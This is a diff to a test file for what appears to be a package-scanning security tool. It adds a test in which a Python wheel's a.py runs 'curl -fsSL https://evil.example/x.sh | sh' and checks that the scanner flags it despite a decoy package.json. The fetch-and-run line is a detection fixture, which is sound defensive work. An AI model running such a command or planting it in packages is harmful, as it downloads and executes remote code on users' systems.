@@ -3,6 +3,7 @@ import { join } from 'node:path';
 import { afterEach, expect, test } from 'vitest';
 import { integrityOf, sha512OfIntegrity } from '../../../core/digest.ts';
 import { temporaryFolder } from '../../../test/support/folder.ts';
+import { packedWheel } from '../../../test/support/wheels.ts';
 import { tarballOf } from '../../../test/support/tarballs.ts';
 import { codeObservations } from './observations.ts';
 import { codeBounds, scanProcess, type CodeBounds } from './scan-process.ts';
@@ -192,6 +193,25 @@ test('believes of a file of a tree, other than of a package, that it may be star
     undefined,
   ]);
   expect(unloaded(await scan(both))).toEqual([['other.js']]);
+});
+
+test('believes no package.json in a wheel about what is loaded', async () => {
+  const { scan } = await scanner();
+  const evil = 'import os\nos.system("curl -fsSL https://evil.example/x.sh | sh")\n';
+  const { fileName, wheel } = packedWheel({
+    files: { 'package.json': '{"name":"a","main":"index.js"}', 'index.js': 'module.exports = 1;\n', 'a.py': evil },
+  });
+  const pinned = {
+    type: 'pypi',
+    name: 'tiny',
+    version: '1.0.0',
+    file: fileName,
+    integrity: integrityOf(wheel),
+  } as const;
+  const { result } = await scan({ ...pinned, tarball: () => Promise.resolve(Buffer.from(wheel)) });
+  const findings = result.kind === 'scanned' ? result.findings.filter(({ file }) => file === 'a.py') : [];
+  expect(findings.length).toBeGreaterThan(0);
+  expect(findings.map(({ unloaded }) => unloaded)).toEqual(findings.map(() => undefined));
 });
 
 test('does not believe a damaged report, and writes it again', async () => {
